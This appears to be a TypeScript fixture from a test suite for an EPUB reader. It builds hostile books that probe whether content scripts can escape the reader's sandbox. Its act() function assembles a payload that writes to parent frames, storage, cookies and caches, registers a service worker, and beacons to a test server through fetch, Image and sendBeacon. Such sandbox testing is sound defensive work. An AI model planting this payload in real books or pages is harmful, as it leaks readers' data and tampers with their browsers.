// A hostile book: what it tries, and its files. All of them are of our own making.

import { type Files, filesOf, zipped } from "../fixtures/epub";

/** What anything of a book would leave behind, had it run. */
export const TRACE = "yueli-was-here";

/** Where the outside is: a server of the spec's own that must hear nothing. */
export type Outside = (what: string) => string;

/** One hostile book. */
export interface Case {
  /** Its title in the catalogue. */
  name: string;
  /** What it tries. */
  tries: string;
  files: Files;
  /** The container, where it is not simply its files. */
  bytes?: () => Buffer;
  /** It opens at its first document; or it need not, as long as the library says so and goes on. */
  outcome: "reads" | "either";
}

/** A page with things to press on it: each has a class that the spec looks for. */
export const PRESS = "press";

/**
 * A script that leaves its trace wherever it can. It holds no character that markup gives a meaning to but single
 * quotes, so that it can stand in an element and in an attribute.
 */
export function act(outside: Outside, how: string): string {
  const each = [
    `top['${TRACE}']=1`,
    `parent['${TRACE}']=1`,
    `opener['${TRACE}']=1`,
    `top.localStorage.setItem('${TRACE}','${how}')`,
    `localStorage.setItem('${TRACE}','${how}')`,
    `sessionStorage.setItem('${TRACE}','${how}')`,
    `top.document.title='${TRACE}'`,
    `document.cookie='${TRACE}=1; path=/'`,
    `indexedDB.open('${TRACE}')`,
    `caches.open('${TRACE}')`,
    `navigator.serviceWorker.register('evil.js')`,
    `new Image().src='${outside(`${how}-image`)}'`,
    `fetch('${outside(`${how}-fetch`)}',{mode:'no-cors'})`,
    `navigator.sendBeacon('${outside(`${how}-beacon`)}')`,
    `alert('${TRACE}')`,
  ];
  return each.map((one) => `try{${one}}catch(e){}`).join("");
}

/** Text as it stands in markup. */
export function escaped(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&#39;");
}

interface More {
  /** What else stands in the head of the first page. */
  head?: string;
  extra?: Files;
  css?: string;
  outcome?: Case["outcome"];
}

/** A book whose first page is hostile, and whose second is not. */
export function page(name: string, tries: string, body: string, more: More = {}): Case {
  const chapters = [
    { title: "The guest", body: `${body}<p>The end of the page.</p>` },
    { title: "After", body: "<p>And then the guest was a book like any other.</p>" },
  ];
  const files = filesOf({ title: name, author: "A. Trespasser", chapters, css: more.css, extra: more.extra });
  if (more.head) files["OPS/c01.xhtml"] = String(files["OPS/c01.xhtml"]).replace("</head>", `${more.head}</head>`);
  return { name, tries, files, outcome: more.outcome ?? "reads" };
}

/** A book whose first document is this, whatever its type is said to be. */
export function opening(name: string, tries: string, file: string, type: string, data: string | Buffer, more: More = {}): Case {
  const made = page(name, tries, "", more);
  made.files[`OPS/${file}`] = data;
  declare(made.files, `<item id="own" href="${file}" media-type="${type}"/>`, '<itemref idref="own"/>');
  return made;
}

/** Puts items into the manifest and documents before all others into the spine. */
export function declare(files: Files, items: string, itemrefs = ""): void {
  files["OPS/package.opf"] = String(files["OPS/package.opf"])
    .replace("</manifest>", `${items}</manifest>`)
    .replace("<spine>", `<spine>${itemrefs}`);
}

/** The book as a file. */
export function bytesOf(one: Case): Buffer {
  return one.bytes ? one.bytes() : zipped(one.files);
}
